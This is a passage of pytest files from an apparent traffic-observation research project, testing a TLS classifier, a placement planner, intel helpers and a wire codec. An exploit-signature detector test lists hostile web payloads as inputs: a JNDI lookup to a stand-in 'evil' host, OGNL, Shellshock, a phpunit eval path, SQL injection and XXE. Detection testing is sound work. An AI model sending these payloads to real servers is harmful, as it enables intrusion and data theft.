                      dst_port=dst_port, payload=payload)


def pad_payload(payload: bytes, padding: int) -> bytes:
    """TLS-style padding: trailing zero bytes outside the framed record.

    The parser walks framed lengths only, so the bytes are invisible to
    everything except the total payload length (the size bucket)."""
    return payload + bytes(padding)


def payload_with_headroom(minimum: int = 4) -> bytes:
    """A ClientHello whose length leaves padding room inside its bucket.

    The canonical 29-char decoy label happens to land flush on a bucket
    boundary, so the padding properties probe nearby label lengths until
    one leaves headroom — the invariance must hold at any length."""
    for label_length in range(20, 20 + PADDING_BUCKET):
        payload = hello_payload(f"{'a' * label_length}.{ZONE}")
        if PADDING_BUCKET - 1 - (len(payload) % PADDING_BUCKET) >= minimum:
            return payload
    raise AssertionError("unreachable: some length must leave headroom")


class TestPaddingInvariance:
    """Features move only in whole PADDING_BUCKET steps."""

    def test_within_bucket_padding_is_invisible(self):
        payload = payload_with_headroom()
        base = featurize(tls_packet(payload))
        headroom = PADDING_BUCKET - 1 - (len(payload) % PADDING_BUCKET)
        for padding in range(1, headroom + 1):
            padded = featurize(tls_packet(pad_payload(payload, padding)))
            assert padded == base

    def test_crossing_a_bucket_moves_exactly_one_bucket(self):
        payload = payload_with_headroom()
        base = featurize(tls_packet(payload))
        to_boundary = PADDING_BUCKET - (len(payload) % PADDING_BUCKET)
        crossed = featurize(tls_packet(pad_payload(payload, to_boundary)))
        assert crossed.size_bucket == base.size_bucket + 1
        # Everything the parser reads from framing is untouched.
        assert crossed.sni_length == base.sni_length
        assert crossed.has_ech == base.has_ech

    def test_score_is_invariant_under_within_bucket_padding(self):
        classifier = TrafficClassifier(size_templates(ZONE), threshold=0.6)
        payload = payload_with_headroom()
        headroom = PADDING_BUCKET - 1 - (len(payload) % PADDING_BUCKET)
        scores = {
            classifier.score(featurize(tls_packet(pad_payload(payload, pad))),
                             regularity=0.8)
            for pad in range(0, headroom + 1)
        }
        assert len(scores) == 1


class TestFeatureDeterminism:
    """Same bytes, same keyed streams -> same features and verdicts."""

    @staticmethod
    def sample_flows(seed: int, count: int = 64):
        draw = random.Random(seed)
        flows = []
        for index in range(count):
            label = "".join(draw.choices("abcdefgh234567", k=29))
            extensions = ()
            if draw.random() < 0.5:
                extensions = ((ECH_EXTENSION_TYPE, bytes(draw.randrange(40, 90))),)
            payload = pad_payload(
                hello_payload(f"{label}.{ZONE}", extensions),
                draw.randrange(0, 3 * PADDING_BUCKET))
            packet = tls_packet(payload, src=f"198.51.100.{draw.randrange(1, 250)}",
                                dst=f"203.0.113.{draw.randrange(1, 250)}")
            flows.append((packet, round(draw.random(), 4)))
        return flows

    def test_featurize_is_pure(self):
        for packet, _ in self.sample_flows(101):
            assert featurize(packet) == featurize(packet)

    def test_identical_keyed_substreams_classify_identically(self):
        templates = size_templates(ZONE)
        flows = self.sample_flows(202)
        verdicts = []
        for attempt in range(2):
            classifier = TrafficClassifier(
                templates, threshold=0.55, fpr=0.15,
                streams=SubstreamFactory(907, "ciphertext.classify"))
            ordering = flows if attempt == 0 else list(reversed(flows))
            batch = {}
            for packet, regularity in ordering:
                features = featurize(packet)
                keys = ("hop-1", packet.ip.src, packet.ip.dst,
                        features.size_bucket)
                batch[keys] = classifier.classify(features, regularity,
                                                  flow_keys=keys)
            verdicts.append(batch)
        assert verdicts[0] == verdicts[1]

    def test_fpr_draw_is_keyed_not_sequential(self):
        classifier = TrafficClassifier(
            size_templates(ZONE), threshold=1.0, fpr=0.5,
            streams=SubstreamFactory(11, "ciphertext.classify"))
        features = featurize(tls_packet(hello_payload(f"{'c' * 29}.{ZONE}")))
        keys = ("hop-9", "198.51.100.7", "203.0.113.9", features.size_bucket)
        first = classifier.classify(features, 0.0, flow_keys=keys)
        assert all(classifier.classify(features, 0.0, flow_keys=keys) == first
                   for _ in range(10))


class TestThresholdMonotonicity:
    """The classified set shrinks monotonically as the threshold rises."""

    def test_classified_sets_are_nested(self):
        templates = size_templates(ZONE)
        flows = TestFeatureDeterminism.sample_flows(303)
        previous = None
        for threshold in (0.2, 0.4, 0.6, 0.8, 1.0):
            classifier = TrafficClassifier(templates, threshold=threshold)
            classified = {
                index for index, (packet, regularity) in enumerate(flows)
                if classifier.classify(featurize(packet), regularity)
            }
            if previous is not None:
                assert classified <= previous
            previous = classified

    def test_score_is_threshold_independent(self):
        templates = size_templates(ZONE)
        packet, regularity = TestFeatureDeterminism.sample_flows(404)[0]
        features = featurize(packet)
        scores = {TrafficClassifier(templates, threshold=t).score(
            features, regularity) for t in (0.1, 0.5, 0.9)}
        assert len(scores) == 1

    def test_non_tls_traffic_scores_zero(self):
        classifier = TrafficClassifier(size_templates(ZONE), threshold=0.0)
        udp = FlowFeatures(transport=17, dst_port=53, size_bucket=1,
                           sni_length=-1, has_ech=False)
        off_port = FlowFeatures(transport=PROTO_TCP, dst_port=8443,
                                size_bucket=1, sni_length=-1, has_ech=False)
        assert classifier.score(udp, regularity=1.0) == 0.0
        assert classifier.score(off_port, regularity=1.0) == 0.0

    def test_parameter_validation(self):
        templates = size_templates(ZONE)
        with pytest.raises(ValueError):
            TrafficClassifier(templates, threshold=1.5)
        with pytest.raises(ValueError):
            TrafficClassifier(templates, fpr=-0.1)
        with pytest.raises(ValueError):
            TrafficClassifier(templates, fpr=0.1)  # fpr > 0 needs streams


class TestEchEverywhereEdgeCase:
    """ech_adoption=1.0: SNI DPI fully blinded, metadata observers not."""

    @pytest.fixture(scope="class")
    def result(self):
        config = ExperimentConfig.tiny(seed=20240301)
        config.ech_adoption = 1.0
        config.ciphertext_observer_share = 0.6
        return Experiment(config).run()

    def test_ech_row_blinds_sni_but_not_metadata(self, result):
        rows = {mitigation: cells for mitigation, _, cells
                in result.analysis.matrix.rows()}
        assert "ech" in rows
        assert rows["ech"]["sni-dpi"] == 0
        assert rows["ech"]["traffic-analysis"] > 0
        assert rows["ech"]["dst-ip"] > 0

    def test_every_ech_visit_is_metadata_inferred(self, result):
        provenance = result.analysis.matrix.provenance_counts()
        assert all(kind == "metadata-inferred"
                   for (mitigation, kind) in provenance
                   if mitigation == "ech")


class TestPlacementPlanner:
    """Centrality weights and the share -> probability mapping."""

    @staticmethod
    def hop(asn: int, address="10.0.0.1", **kwargs) -> Hop:
        return Hop(address=address, asn=asn, country="US", **kwargs)

    def test_synthetic_role_windows(self):
        planner = PlacementPlanner(share=1.0)
        backbone = self.hop(SYNTHETIC_ASN_BASE + 10_000 + 7)
        transit = self.hop(SYNTHETIC_ASN_BASE + 20_000 + 7)
        edge = self.hop(SYNTHETIC_ASN_BASE + 30_000 + 7)
        assert planner.centrality_weight(backbone) == BACKBONE_WEIGHT
        assert planner.centrality_weight(transit) == TRANSIT_WEIGHT
        assert planner.centrality_weight(edge) == EDGE_WEIGHT

    def test_destinations_are_never_observed(self):
        planner = PlacementPlanner(share=1.0)
        destination = self.hop(SYNTHETIC_ASN_BASE + 10_000,
                               is_destination=True)
        assert planner.centrality_weight(destination) == 0.0
        assert planner.deploy_probability(destination) == 0.0

    def test_real_backbones_by_list_and_registry(self):
        planner = PlacementPlanner(share=1.0, extra_backbone_asns=(812,))
        assert planner.centrality_weight(self.hop(4134)) == BACKBONE_WEIGHT
        assert planner.centrality_weight(self.hop(812)) == BACKBONE_WEIGHT

    def test_probability_scales_with_share(self):
        transit = self.hop(SYNTHETIC_ASN_BASE + 20_000)
        assert PlacementPlanner(share=0.4).deploy_probability(
            transit) == pytest.approx(0.4 * TRANSIT_WEIGHT)
        assert PlacementPlanner(share=1.0).deploy_probability(
            self.hop(SYNTHETIC_ASN_BASE + 10_000)) == 1.0
        with pytest.raises(ValueError):
            PlacementPlanner(share=1.5)


class TestDstIpCorrelator:
    """Address-reuse linkage needs no TLS parsing at all."""

    def test_flags_at_threshold(self):
        correlator = DstIpCorrelator(link_threshold=3)
        for src in ("10.0.0.1", "10.0.0.2"):
            correlator.observe(src, "203.0.113.9")
        assert not correlator.flagged("203.0.113.9")
        correlator.observe("10.0.0.3", "203.0.113.9")
        assert correlator.flagged("203.0.113.9")
        assert correlator.flagged_destinations() == ["203.0.113.9"]

    def test_repeat_sources_do_not_inflate(self):
        correlator = DstIpCorrelator(link_threshold=2)
        for _ in range(5):
            correlator.observe("10.0.0.1", "203.0.113.9")
        assert not correlator.flagged("203.0.113.9")

    def test_validation(self):
        with pytest.raises(ValueError):
            DstIpCorrelator(link_threshold=0)


class TestObserverBookkeeping:
    """The per-hop observer counts flows and reports upward."""

    def test_tap_reports_every_flow(self):
        hop = Hop(address="10.9.9.9", asn=SYNTHETIC_ASN_BASE + 10_000,
                  country="US")
        reports = []
        clock = iter(float(t) for t in range(100))
        observer = CiphertextObserver(
            hop=hop,
            classifier=TrafficClassifier(size_templates(ZONE), threshold=0.0),
            correlator=DstIpCorrelator(link_threshold=1),
            clock=lambda: next(clock),
            report=lambda *args: reports.append(args))
        packet = tls_packet(hello_payload(f"{'d' * 29}.{ZONE}"))
        for _ in range(3):
            observer.tap(1, hop, packet)
        assert observer.flows_seen == 3
        assert observer.flows_classified == 3
        assert reports == [("10.9.9.9", packet.ip.src, packet.ip.dst, True)] * 3
        assert observer.correlator.flagged(packet.ip.dst)

"""Tests for the intel substrates: directory, blocklist, exploit-db, portscan."""

import random

import pytest

from repro.intel import (
    Blocklist,
    IpDirectory,
    PayloadVerdict,
    check_payload,
    scan_observers,
)
from repro.intel.exploitdb import ENUMERATION_PATHS, matching_signature
from repro.intel.portscan import summarize_ports
from repro.net.path import Hop


class TestIpDirectory:
    def test_register_and_lookup(self):
        directory = IpDirectory()
        record = directory.register("1.2.3.4", 4134, "CN", role="router")
        assert directory.lookup("1.2.3.4") is record
        assert directory.asn_of("1.2.3.4") == 4134
        assert directory.country_of("1.2.3.4") == "CN"

    def test_unknown_address_returns_none(self):
        directory = IpDirectory()
        assert directory.lookup("9.9.9.9") is None
        assert directory.asn_of("9.9.9.9") is None

    def test_idempotent_reregistration(self):
        directory = IpDirectory()
        directory.register("1.2.3.4", 4134, "CN", role="router")
        directory.register("1.2.3.4", 4134, "CN", role="router")
        assert len(directory) == 1

    def test_conflicting_registration_raises(self):
        directory = IpDirectory()
        directory.register("1.2.3.4", 4134, "CN", role="router")
        with pytest.raises(ValueError):
            directory.register("1.2.3.4", 15169, "US", role="origin")

    def test_as_name_for_named_and_synthetic(self):
        directory = IpDirectory()
        record = directory.register("1.2.3.4", 4134, "CN", role="router")
        assert "CHINANET" in record.as_name
        unknown = directory.register("1.2.3.5", 64512, "US", role="router")
        assert unknown.as_name == "AS64512"


class TestBlocklist:
    def test_add_and_contains(self):
        blocklist = Blocklist()
        blocklist.add("1.2.3.4")
        assert "1.2.3.4" in blocklist
        assert "5.6.7.8" not in blocklist

    def test_maybe_add_probability_extremes(self):
        blocklist = Blocklist()
        rng = random.Random(1)
        assert blocklist.maybe_add("1.1.1.2", 1.0, rng)
        assert not blocklist.maybe_add("1.1.1.3", 0.0, rng)

    def test_maybe_add_rejects_bad_probability(self):
        with pytest.raises(ValueError):
            Blocklist().maybe_add("1.1.1.2", 1.5, random.Random(1))

    def test_hit_rate_over_distinct_addresses(self):
        blocklist = Blocklist()
        blocklist.add("1.1.1.1")
        # Duplicates must not inflate the rate.
        rate = blocklist.hit_rate(["1.1.1.1", "1.1.1.1", "2.2.2.2"])
        assert rate == pytest.approx(0.5)

    def test_hit_rate_empty(self):
        assert Blocklist().hit_rate([]) == 0.0

    def test_statistical_rate(self):
        blocklist = Blocklist()
        rng = random.Random(42)
        added = sum(
            blocklist.maybe_add(f"10.0.{index // 256}.{index % 256}", 0.3, rng)
            for index in range(2000)
        )
        assert 0.25 < added / 2000 < 0.35


class TestExploitDb:
    def test_root_is_benign(self):
        assert check_payload("/") is PayloadVerdict.BENIGN

    def test_enumeration_paths_classified(self):
        for path in ENUMERATION_PATHS:
            assert check_payload(path) is PayloadVerdict.ENUMERATION

    @pytest.mark.parametrize("payload", [
        "/?q=${jndi:ldap://evil/a}",
        "/index.php?x=%{(#ognl)}",
        "/cgi-bin/test () { :; } ; /bin/bash",
        "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
        "/search?q=1 UNION SELECT password FROM users",
    ])
    def test_exploit_signatures_detected(self, payload):
        assert check_payload(payload) is PayloadVerdict.EXPLOIT

    def test_exploit_in_body(self):
        assert check_payload("/submit", b"<!ENTITY xxe SYSTEM 'file:///'>") is \
            PayloadVerdict.EXPLOIT

    def test_matching_signature_returns_identifier(self):
        signature = matching_signature("/?x=${jndi:rmi://evil}")
        assert signature is not None
        assert signature.identifier == "EDB-49757"
        assert matching_signature("/robots.txt") is None


class TestPortScan:
    def make_resolver(self, table):
        return lambda address: table.get(address)

    def test_scan_known_router_with_bgp(self):
        hop = Hop(address="10.0.0.1", asn=4134, country="CN", open_ports=(179,))
        results = scan_observers(["10.0.0.1"], self.make_resolver({"10.0.0.1": hop}))
        assert results[0].responsive
        assert results[0].open_ports == (179,)
        assert results[0].banners == ((179, "BGP-4"),)

    def test_unknown_address_is_silent(self):
        results = scan_observers(["9.9.9.9"], self.make_resolver({}))
        assert not results[0].responsive

    def test_summary_silent_fraction_and_top_port(self):
        table = {
            "10.0.0.1": Hop("10.0.0.1", 1, "CN", open_ports=(179,)),
            "10.0.0.2": Hop("10.0.0.2", 1, "CN", open_ports=()),
            "10.0.0.3": Hop("10.0.0.3", 1, "CN", open_ports=(179, 22)),
        }
        results = scan_observers(sorted(table), self.make_resolver(table))
        summary = summarize_ports(results)
        assert summary["observers_scanned"] == 3
        assert summary["silent_fraction"] == pytest.approx(1 / 3)
        assert summary["top_open_port"] == 179

    def test_summary_empty(self):
        summary = summarize_ports([])
        assert summary["top_open_port"] is None
        assert summary["silent_fraction"] == 0.0

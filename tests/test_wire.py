"""Wire-codec properties and delta-vs-full equivalence.

The compact payload codec (:mod:`repro.core.wire`) replaced
pickle-the-world transport on the worker↔supervisor data plane, so its
contract carries the whole digest guarantee: encode/decode must round
trip every payload exactly, re-encoding a decoded payload must reproduce
identical bytes (the checkpoint store relies on blob-verbatim flushes),
and every truncated or corrupted blob must raise a versioned
:class:`WireError` instead of decoding into a silently wrong payload.

Like :mod:`tests.test_properties_codecs`, the property tests drive a
``random.Random`` with pinned seeds so failures replay exactly.  The
equivalence suite then closes the loop end to end: for three seeds, the
serial run, the 4-worker run (delta transport), the
killed-and-respawned run (replayed Phase I verified against the delta
stream), and the resumed run (payloads reloaded from wire blobs) all
produce the same result digest.
"""

import json
import random
import string

import pytest

from repro.core.config import ExperimentConfig
from repro.core.correlate import DecoyRecord, ShadowingEvent, ShardCorrelation
from repro.core.experiment import Experiment, Phase2PlanEntry
from repro.core.identifier import DecoyIdentity
from repro.core.phase2 import ObserverLocation
from repro.core.shard import (
    PairwiseMerger,
    SupervisorPolicy,
    result_digest,
    run_sharded,
)
from repro.core.wire import (
    WIRE_VERSION,
    ShardFinalPayload,
    ShardPhase1Payload,
    WireError,
    apply_snapshot_delta,
    decode_final_payload,
    decode_phase1_payload,
    decode_plan_slice,
    decode_plan_slices,
    encode_final_payload,
    encode_phase1_payload,
    encode_plan_slice,
    encode_plan_slices,
    snapshot_delta,
)
from repro.honeypot.logstore import LoggedRequest
from repro.net.addr import ip_from_int
from repro.observers.exhibitor import ObservationRecord
from repro.telemetry.spans import Span

CASES = 30

_WORDS = ("alpha", "bravo", "charlie", "delta", "echo", "foxtrot",
          "golf", "hotel")


def _address(rng):
    return ip_from_int(rng.randint(0, 0xFFFFFFFF))


def _domain(rng, index):
    token = "".join(rng.choice(string.ascii_lowercase) for _ in range(10))
    return f"{token}-{index:04d}.www.experiment.domain"


def _record(rng, index, phase=1):
    domain = _domain(rng, index)
    return (
        (rng.uniform(0, 1e5), phase, rng.randint(-2, 40), rng.randint(-2, 40)),
        DecoyRecord(
            identity=DecoyIdentity(
                sent_at=rng.randint(0, 0xFFFFFFFF),
                vp_address=_address(rng),
                dst_address=_address(rng),
                ttl=rng.randint(0, 255),
                sequence=index % 10000,
            ),
            domain=domain,
            protocol=rng.choice(("dns", "http", "tls")),
            vp_id=f"vp-{rng.randint(0, 99):02d}",
            vp_country=rng.choice(("US", "DE", "JP", "BR")),
            vp_province=rng.choice((None, "CA", "BY")),
            destination_address=_address(rng),
            destination_name=rng.choice(_WORDS) + ".example",
            destination_kind=rng.choice(("dns", "web")),
            destination_country=rng.choice(("US", "CN", "RU")),
            instance_country=rng.choice(("US", "NL", "SG")),
            path_length=rng.randint(1, 30),
            sent_at=rng.uniform(0, 1e5),
            phase=phase,
            delivered=rng.random() < 0.9,
            round_index=rng.randint(0, 3),
        ),
    )


def _log_entry(rng, time, domain=None):
    protocol = rng.choice(("dns", "http", "https"))
    return LoggedRequest(
        time=time,
        site=rng.choice(("US", "DE", "JP")),
        protocol=protocol,
        src_address=_address(rng),
        domain=domain or _domain(rng, rng.randint(0, 9999)),
        path=rng.choice((None, "/", "/probe")) if protocol != "dns" else None,
        qtype=rng.choice((1, 28, 16)) if protocol == "dns" else None,
        user_agent=rng.choice((None, "curl/8.0")) if protocol == "http" else None,
    )


def _correlation(rng, records, entries):
    """A ShardCorrelation whose cross-references stay inside the payload."""
    firsts, seen = [], set()
    for index, entry in enumerate(entries):
        if entry.domain not in seen:
            seen.add(entry.domain)
            firsts.append((entry.time, index, entry.domain))
    events = {}
    arrivals = {}
    for _, record in records:
        if entries and rng.random() < 0.6:
            entry = rng.choice(entries)
            events.setdefault(record.domain, []).append(ShadowingEvent(
                decoy=record, request=entry,
                combo=f"{record.protocol.upper()}-{entry.protocol.upper()}",
            ))
        if entries and rng.random() < 0.4:
            arrivals[record.domain] = rng.choice(entries)
    unknown = sorted({entry.domain for entry in entries
                      if rng.random() < 0.2})
    return ShardCorrelation(firsts=firsts, events=events,
                            initial_arrivals=arrivals,
                            unknown_domains=unknown)


def _snapshot(rng):
    return {
        "format": 1,
        "counters": {rng.choice(_WORDS): rng.randint(0, 500)
                     for _ in range(rng.randint(0, 5))},
        "pairs": [[rng.choice(_WORDS), rng.randint(0, 9)]
                  for _ in range(rng.randint(0, 6))],
    }


def _phase1_payload(rng, shard_index=0, size=None):
    size = rng.randint(2, 12) if size is None else size
    records = [_record(rng, index) for index in range(size)]
    clock, entries = 0.0, []
    for _ in range(rng.randint(0, 2 * size)):
        clock += rng.uniform(0.0, 30.0)
        entry_domain = (rng.choice(records)[1].domain
                        if rng.random() < 0.5 else None)
        entries.append(_log_entry(rng, clock, entry_domain))
    return ShardPhase1Payload(
        shard_index=shard_index,
        records=records,
        log_entries=entries,
        sends_planned=rng.randint(0, 10000),
        sends_scheduled=rng.randint(0, 10000),
        last_send_time=rng.uniform(0, 1e5),
        virtual_now=rng.uniform(0, 1e5),
        vetting_kept=rng.randint(0, 500),
        vetting_removed_ttl=rng.randint(0, 50),
        vetting_removed_intercepted=rng.randint(0, 50),
        wall_seconds=rng.uniform(0, 100),
        correlation=_correlation(rng, records, entries),
        analysis=_snapshot(rng),
        telemetry=_snapshot(rng),
    )


def _final_payload(rng, base):
    new_records = [_record(rng, 5000 + index, phase=2)
                   for index in range(rng.randint(0, 6))]
    clock = max((entry.time for entry in base.log_entries), default=0.0)
    new_entries = []
    for _ in range(rng.randint(0, 8)):
        clock += rng.uniform(0.0, 30.0)
        pool = base.records + new_records
        entry_domain = (rng.choice(pool)[1].domain
                        if pool and rng.random() < 0.5 else None)
        new_entries.append(_log_entry(rng, clock, entry_domain))

    # The full correlation extends the Phase I one: same events plus a
    # tail referencing only entries this payload ships (what a real
    # worker's full-log pass produces under shard locality).
    base_corr = base.correlation
    firsts, seen = list(base_corr.firsts), {f[2] for f in base_corr.firsts}
    offset = len(base.log_entries)
    for index, entry in enumerate(new_entries):
        if entry.domain not in seen:
            seen.add(entry.domain)
            firsts.append((entry.time, offset + index, entry.domain))
    events = {domain: list(entries)
              for domain, entries in base_corr.events.items()}
    grew = set()
    for _, record in base.records + new_records:
        if new_entries and rng.random() < 0.4:
            entry = rng.choice(new_entries)
            events.setdefault(record.domain, []).append(ShadowingEvent(
                decoy=record, request=entry,
                combo=f"{record.protocol.upper()}-{entry.protocol.upper()}",
            ))
            grew.add(record.domain)
    # A real worker's full-log correlation orders each per-domain list by
    # the triggering request domain's first appearance in the log; mirror
    # that invariant so the reconstructed payload compares equal.
    first_position = {}
    for _, index, domain in firsts:
        first_position.setdefault(domain, index)
    for domain in grew:
        events[domain].sort(
            key=lambda event: first_position[event.request.domain])
    arrivals = dict(base_corr.initial_arrivals)
    for _, record in new_records:
        if new_entries and rng.random() < 0.3:
            if record.domain not in arrivals:
                arrivals[record.domain] = rng.choice(new_entries)
    unknown = base_corr.unknown_domains + sorted(
        {entry.domain for entry in new_entries if rng.random() < 0.2})
    correlation = ShardCorrelation(
        firsts=firsts, events=events, initial_arrivals=arrivals,
        unknown_domains=unknown)

    telemetry = json.loads(json.dumps(base.telemetry))
    for key in list(telemetry["counters"]):
        telemetry["counters"][key] += rng.randint(0, 9)
    analysis = json.loads(json.dumps(base.analysis))
    analysis["pairs"].extend(
        [[rng.choice(_WORDS), rng.randint(0, 9)]
         for _ in range(rng.randint(0, 3))])

    return ShardFinalPayload(
        shard_index=base.shard_index,
        records=new_records,
        log_entries=new_entries,
        locations=[
            (rng.randint(0, 500), ObserverLocation(
                vp_id=f"vp-{rng.randint(0, 99):02d}",
                vp_country=rng.choice(("US", "DE")),
                destination_address=_address(rng),
                destination_name=rng.choice(_WORDS) + ".example",
                protocol=rng.choice(("dns", "http")),
                path_length=rng.randint(1, 30),
                trigger_ttl=rng.choice((None, rng.randint(1, 30))),
                observer_address=rng.choice((None, _address(rng))),
                observer_asn=rng.choice((None, rng.randint(1, 65535))),
                observer_country=rng.choice((None, "CN")),
            ))
            for _ in range(rng.randint(0, 4))
        ],
        ground_truth=[
            (stamp, ObservationRecord(
                exhibitor=rng.choice(_WORDS),
                domain=_domain(rng, rng.randint(0, 9999)),
                observed_at=stamp,
                observed_from=_address(rng),
                leveraged=rng.random() < 0.5,
                scheduled_requests=rng.randint(0, 8),
            ))
            for stamp in sorted(rng.uniform(0, 1e5)
                                for _ in range(rng.randint(0, 4)))
        ],
        label_counts={word: rng.randint(0, 1000)
                      for word in rng.sample(_WORDS, rng.randint(0, 4))},
        processed=rng.randint(0, 100000),
        exhibitor_counts={
            word: (rng.randint(0, 100), rng.randint(0, 100))
            for word in rng.sample(_WORDS, rng.randint(0, 3))
        },
        resolver_received={_address(rng): rng.randint(0, 1000)
                           for _ in range(rng.randint(0, 3))},
        emitter_emitted=rng.randint(0, 100000),
        virtual_now=rng.uniform(0, 1e5),
        wall_seconds=rng.uniform(0, 100),
        telemetry=telemetry,
        spans=[Span(name=rng.choice(("build", "phase1", "phase2")),
                    wall_seconds=rng.uniform(0, 10),
                    virtual_start=rng.uniform(0, 1e5),
                    virtual_end=rng.uniform(0, 1e5),
                    shard=base.shard_index)
               for _ in range(rng.randint(0, 3))],
        correlation=correlation,
        analysis=analysis,
    )


def _assert_payloads_equal(left, right):
    for name in left.__dataclass_fields__:
        if name == "correlation":
            continue
        assert getattr(left, name) == getattr(right, name), name
    lc, rc = left.correlation, right.correlation
    if lc is None or rc is None:
        assert lc is rc
        return
    assert lc.firsts == rc.firsts
    assert lc.events == rc.events
    assert lc.initial_arrivals == rc.initial_arrivals
    assert lc.unknown_domains == rc.unknown_domains


class TestPhase1RoundTrip:
    def test_round_trip_equality(self):
        rng = random.Random(0x3171)
        for _ in range(CASES):
            payload = _phase1_payload(rng)
            decoded = decode_phase1_payload(encode_phase1_payload(payload))
            _assert_payloads_equal(payload, decoded)

    def test_reencode_is_byte_exact(self):
        rng = random.Random(0x3172)
        for _ in range(CASES):
            blob = encode_phase1_payload(_phase1_payload(rng))
            assert encode_phase1_payload(decode_phase1_payload(blob)) == blob

    def test_without_optional_sections(self):
        rng = random.Random(0x3173)
        payload = _phase1_payload(rng)
        payload.correlation = None
        payload.analysis = None
        payload.telemetry = None
        decoded = decode_phase1_payload(encode_phase1_payload(payload))
        assert decoded.correlation is None
        assert decoded.analysis is None
        assert decoded.telemetry is None


class TestFinalRoundTrip:
    def test_delta_reconstructs_full_state(self):
        rng = random.Random(0x3174)
        for _ in range(CASES):
            base = _phase1_payload(rng)
            final = _final_payload(rng, base)
            # Decode against the supervisor's *decoded* Phase I copy, as
            # run_sharded does — the delta must survive the object-identity
            # change across the pipe.
            supervisor_base = decode_phase1_payload(
                encode_phase1_payload(base))
            decoded = decode_final_payload(
                encode_final_payload(final, base), supervisor_base)
            for name in ("records", "log_entries", "locations",
                         "ground_truth", "label_counts", "processed",
                         "exhibitor_counts", "resolver_received",
                         "emitter_emitted", "virtual_now", "wall_seconds",
                         "spans"):
                assert getattr(final, name) == getattr(decoded, name), name
            # Telemetry/analysis reconstruct in JSON space (the worker's
            # tuples become lists, exactly as from_snapshot tolerates).
            assert decoded.telemetry == json.loads(json.dumps(final.telemetry))
            assert decoded.analysis == json.loads(json.dumps(final.analysis))
            lc, rc = final.correlation, decoded.correlation
            assert lc.firsts == rc.firsts
            assert lc.initial_arrivals == rc.initial_arrivals
            assert lc.unknown_domains == rc.unknown_domains
            assert set(lc.events) == set(rc.events)
            for domain in lc.events:
                assert lc.events[domain] == rc.events[domain], domain

    def test_delta_ships_fewer_bytes_than_full_reencode(self):
        rng = random.Random(0x3175)
        base = _phase1_payload(rng, size=50)
        final = _final_payload(rng, base)
        blob = encode_final_payload(final, base)
        # The final blob must not re-ship the Phase I records/log: a
        # regression to full shipping would exceed the Phase I blob size.
        assert len(blob) < len(encode_phase1_payload(base))

    def test_shard_mismatch_rejected(self):
        rng = random.Random(0x3176)
        base = _phase1_payload(rng, shard_index=0)
        final = _final_payload(rng, base)
        blob = encode_final_payload(final, base)
        other = decode_phase1_payload(encode_phase1_payload(
            _phase1_payload(rng, shard_index=1)))
        with pytest.raises(WireError, match="shard"):
            decode_final_payload(blob, other)


class TestPlanRoundTrip:
    def _entries(self, rng, count):
        return [
            Phase2PlanEntry(
                index=rng.randint(0, 10000),
                vp_id=f"vp-{rng.randint(0, 99):02d}",
                vp_address=_address(rng),
                destination_address=_address(rng),
                destination_country=rng.choice(("US", "CN")),
                destination_name=rng.choice(_WORDS) + ".example",
                protocol=rng.choice(("dns", "http", "tls")),
            )
            for _ in range(count)
        ]

    def test_slices_round_trip(self):
        rng = random.Random(0x3177)
        for _ in range(CASES):
            slices = [self._entries(rng, rng.randint(0, 6))
                      for _ in range(rng.randint(1, 4))]
            assert decode_plan_slices(encode_plan_slices(slices)) == slices

    def test_single_slice_helpers(self):
        rng = random.Random(0x3178)
        entries = self._entries(rng, 5)
        assert decode_plan_slice(encode_plan_slice(entries)) == entries
        with pytest.raises(WireError, match="one plan slice"):
            decode_plan_slice(encode_plan_slices([entries, entries]))


class TestCorruptionAlwaysRejected:
    def _blobs(self, rng):
        base = _phase1_payload(rng, size=3)
        yield encode_phase1_payload(base)
        yield encode_final_payload(_final_payload(rng, base), base)
        yield encode_plan_slice(TestPlanRoundTrip()._entries(rng, 3))

    def test_every_truncation_raises_versioned_error(self):
        rng = random.Random(0x3179)
        for blob in self._blobs(rng):
            for length in range(len(blob)):
                with pytest.raises(WireError) as excinfo:
                    decode_phase1_payload(blob[:length])
                assert f"wire format v{WIRE_VERSION}" in str(excinfo.value)

    def test_single_byte_corruption_raises(self):
        rng = random.Random(0x317A)
        blob = encode_phase1_payload(_phase1_payload(rng, size=3))
        for _ in range(CASES):
            position = rng.randrange(len(blob))
            flipped = bytes(
                byte ^ (1 << rng.randrange(8)) if index == position else byte
                for index, byte in enumerate(blob))
            with pytest.raises(WireError):
                decode_phase1_payload(flipped)

    def test_trailing_garbage_rejected_by_checksum(self):
        rng = random.Random(0x317B)
        blob = encode_phase1_payload(_phase1_payload(rng, size=2))
        with pytest.raises(WireError):
            decode_phase1_payload(blob + b"\x00")

    def test_unknown_version_named_in_error(self):
        rng = random.Random(0x317C)
        blob = bytearray(encode_phase1_payload(_phase1_payload(rng, size=2)))
        blob[4] = WIRE_VERSION + 1
        with pytest.raises(WireError, match="wire version"):
            decode_phase1_payload(bytes(blob))

    def test_wrong_kind_rejected(self):
        rng = random.Random(0x317D)
        blob = encode_phase1_payload(_phase1_payload(rng, size=2))
        with pytest.raises(WireError, match="kind"):
            decode_plan_slices(blob)

    def test_not_pickle_not_python(self):
        for garbage in (b"", b"RWIR", b"\x80\x04K\x01.", b"{}"):
            with pytest.raises(WireError):
                decode_phase1_payload(garbage)


def _random_json(rng, depth=0):
    roll = rng.random()
    if depth >= 3 or roll < 0.35:
        return rng.choice((None, True, False, rng.randint(-50, 50),
                           rng.choice(_WORDS)))
    if roll < 0.7:
        return {rng.choice(_WORDS): _random_json(rng, depth + 1)
                for _ in range(rng.randint(0, 4))}
    return [_random_json(rng, depth + 1) for _ in range(rng.randint(0, 4))]


def _grown(rng, value):
    """A plausible 'later snapshot': extend lists, bump ints, add keys."""
    if isinstance(value, dict):
        grown = {key: _grown(rng, child) for key, child in value.items()}
        if rng.random() < 0.4:
            grown["grown-" + rng.choice(_WORDS)] = _random_json(rng, 2)
        if grown and rng.random() < 0.2:
            grown.pop(rng.choice(sorted(grown)))
        return grown
    if isinstance(value, list):
        return value + [_random_json(rng, 2)
                        for _ in range(rng.randint(0, 3))]
    if isinstance(value, int) and not isinstance(value, bool):
        return value + rng.randint(0, 10)
    return value


class TestSnapshotDelta:
    def test_apply_inverts_delta_for_any_pair(self):
        rng = random.Random(0x317E)
        for _ in range(200):
            old = _random_json(rng)
            new = _random_json(rng)
            assert apply_snapshot_delta(old, snapshot_delta(old, new)) == new

    def test_grown_snapshots_ship_compact_deltas(self):
        rng = random.Random(0x317F)
        for _ in range(100):
            old = {word: _random_json(rng, 1) for word in _WORDS}
            new = _grown(rng, old)
